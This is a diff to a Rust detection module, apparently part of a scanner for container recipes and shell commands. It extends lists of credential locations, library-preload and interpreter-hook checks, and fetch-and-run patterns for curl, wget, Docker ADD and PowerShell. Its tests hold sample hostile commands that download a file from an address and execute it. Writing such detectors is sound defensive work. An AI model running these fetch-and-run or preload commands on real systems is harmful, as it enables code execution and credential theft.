@@ -1,7 +1,9 @@
 //! Command lines by what their parts do together: what is read and sent, fetched and run, loaded into others.
 
 /// Places that hold what lets somebody in.
-const CREDENTIALS: [&str; 20] = [
+const CREDENTIALS: [&str; 22] = [
+    "/run/secrets/",
+    "huggingface/stored_tokens",
     "~/.ssh",
     "$home/.ssh",
     "${home}/.ssh",
@@ -31,12 +33,26 @@ fn pipelines(text: &str) -> impl Iterator<Item = &str> {
 
 /// The first word of a part, past words that only start it.
 fn program(part: &str) -> &str {
-    let mut words = part.split_whitespace().map(|word| word.trim_matches(['(', ')', '{', '}', '"', '\'']));
+    let mut words =
+        part.split_whitespace().map(|word| word.trim_matches(['(', ')', '{', '}', '[', ']', ',', '"', '\'']));
     let starts = |word: &&str| {
         !matches!(
             *word,
-            "sudo" | "exec" | "nohup" | "time" | "run" | "env" | "-e" | "RUN" | "CMD" | "then" | "do" | ""
-        )
+            "sudo"
+                | "exec"
+                | "nohup"
+                | "time"
+                | "run"
+                | "env"
+                | "-e"
+                | "RUN"
+                | "CMD"
+                | "ENTRYPOINT"
+                | "then"
+                | "do"
+                | ""
+        ) && !word.starts_with("--mount=")
+            && !word.starts_with("--network=")
     };
     words.find(starts).unwrap_or("")
 }
@@ -67,6 +83,11 @@ pub(super) fn ships(command: &str) -> bool {
 /// Whether every program that starts is made to load a library from a place where no library belongs.
 pub(super) fn preloads(command: &str) -> bool {
     const NAMES: [&str; 3] = ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"];
+    // Where an image keeps what is its own, and the libraries that are put before all others for their speed.
+    const OWN: [&str; 8] =
+        ["/app/", "/workspace/", "/model/", "/models/", "/srv/", "/data/", "/var/", "/root/"];
+    const KNOWN: [&str; 10] =
+        ["malloc", "gomp", "iomp", "stdc++", "mkl", "cuda", "nccl", "asan", "faketime", "libgcc"];
     const USUAL: [&str; 6] = ["/.local/", "/.conda/", "/.venv/", "/.mujoco/", "/.cache/", "/./"];
     NAMES.iter().any(|name| {
         command.split(name).skip(1).any(|rest| {
@@ -76,7 +97,22 @@ pub(super) fn preloads(command: &str) -> bool {
             let hidden = value.contains("/.")
                 && !value.contains("/..")
                 && !USUAL.iter().any(|usual| value.contains(usual));
-            shared.iter().any(|place| value.starts_with(place)) || hidden || value.contains("://")
+            let own = OWN.iter().any(|place| value.starts_with(place))
+                && !KNOWN.iter().any(|known| value.contains(known))
+                && !USUAL.iter().any(|usual| value.contains(usual))
+                && !value.contains("/lib/");
+            shared.iter().any(|place| value.starts_with(place)) || hidden || own || value.contains("://")
+        })
+    })
+}
+
+/// Whether every start of an interpreter is made to run a file of the image's own.
+pub(super) fn hooks(command: &str) -> bool {
+    ["PYTHONSTARTUP", "PERL5OPT", "RUBYOPT", "NODE_OPTIONS"].iter().any(|name| {
+        command.split(name).skip(1).any(|rest| {
+            let value = rest.strip_prefix(['=', ' ']).unwrap_or("").trim_start_matches(['"', '\'']);
+            let asks = ["--require", "--import", "-r", "-M"].iter().any(|option| value.starts_with(option));
+            (*name == "PYTHONSTARTUP" || asks) && value.contains(['/', '\\', '.'])
         })
     })
 }
@@ -98,16 +134,22 @@ pub(super) fn unguarded(part: &str) -> bool {
 pub(super) fn fetched(command: &str) -> Option<&'static str> {
     let parts: Vec<&str> = pipelines(command).map(str::trim).collect();
     for (index, part) in parts.iter().enumerate() {
-        if !matches!(program(part), "curl" | "wget") {
+        // A recipe of a container fetches with a word of its own.
+        let adds = part.starts_with("ADD ") && part.contains("://");
+        if !adds && !matches!(program(part), "curl" | "wget") {
             continue;
         }
         let words: Vec<&str> = part.split_whitespace().collect();
+        let added: Vec<&str> = words.iter().copied().filter(|word| adds && !word.starts_with("--")).collect();
         let named = words
             .windows(2)
             .find(|pair| matches!(pair[0], "-o" | "-O" | "--output" | ">" | "--output-document"));
         let target = match named {
             Some(pair) if pair[1] != "-" => pair[1].trim_matches(['"', '\'']),
-            _ => continue,
+            _ => match added[..] {
+                [_, _, target] if !target.ends_with('/') => target,
+                _ => continue,
+            },
         };
         if target.is_empty() || target.starts_with('-') {
             continue;
@@ -120,10 +162,13 @@ pub(super) fn fetched(command: &str) -> Option<&'static str> {
             {
                 return Some("gives a program it has fetched the rights of root");
             }
-            let bare = |path: &str| path.trim_start_matches("./").trim_matches(['"', '\'']).to_owned();
+            let bare = |path: &str| {
+                path.trim_matches(['"', '\'', '[', ']', ',']).trim_start_matches("./").to_owned()
+            };
             let shell = matches!(first, "sh" | "bash" | "zsh" | "dash" | "python" | "python3" | "perl");
-            let runs = bare(first) == bare(target)
-                || shell && after.split_whitespace().nth(1).is_some_and(|file| bare(file) == bare(target));
+            let mut words = after.split_whitespace().map(&bare).skip_while(|word| *word != bare(first));
+            let next = words.nth(1);
+            let runs = bare(first) == bare(target) || shell && next.is_some_and(|file| file == bare(target));
             if runs && unguarded(part) {
                 return Some("fetches a program over a way that anybody can change and runs it");
             }
@@ -140,6 +185,11 @@ pub(super) fn windows(text: &str) -> Option<&'static str> {
         || has("regsvr32") && has("/i:http")
         || has("rundll32") && has("javascript:");
     if lends {
+        return Some("fetches a program and runs it");
+    }
+    let shell = ["powershell", "pwsh", "invoke-webrequest", "iwr ", "start-bitstransfer", ".downloadfile("];
+    let runs = ["start-process", "invoke-item", "invoke-expression", "iex ", "|iex", "| iex", "saps ", "& $"];
+    if address && shell.iter().any(|word| has(word)) && runs.iter().any(|word| has(word)) {
         return Some("fetches a program and runs it");
     }
     let saves = has("certutil") && has("-urlcache") || has("bitsadmin") && has("/transfer");
@@ -220,6 +270,17 @@ mod tests {
         assert!(preloads("env LD_PRELOAD=/var/lib/.fonts/libz.so"));
         assert!(preloads("ENV LD_PRELOAD /tmp/a.so"));
         assert!(!preloads("ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"));
+        assert!(preloads("LD_PRELOAD=/app/a.so") && !preloads("LD_PRELOAD=/app/libtcmalloc.so.4"));
+        assert!(hooks("PYTHONSTARTUP=/app/a.py") && hooks("NODE_OPTIONS=--require /app/a.js"));
+        assert!(!hooks("NODE_OPTIONS=--max-old-space-size=4096"));
+        assert!(fetched("ADD http://192.0.2.9/a /a\nRUN sh /a").is_some());
+        assert!(
+            fetched("RUN wget http://192.0.2.9/a -O /b/a && chmod +x /b/a\nENTRYPOINT [\"/b/a\"]").is_some()
+        );
+        assert!(
+            fetched("ADD https://x.example/tini /tini\nRUN chmod +x /tini\nENTRYPOINT [\"/tini\", \"--\"]")
+                .is_none()
+        );
         assert!(!preloads("export LD_PRELOAD=$CONDA_PREFIX/lib/libgomp.so"));
     }
 
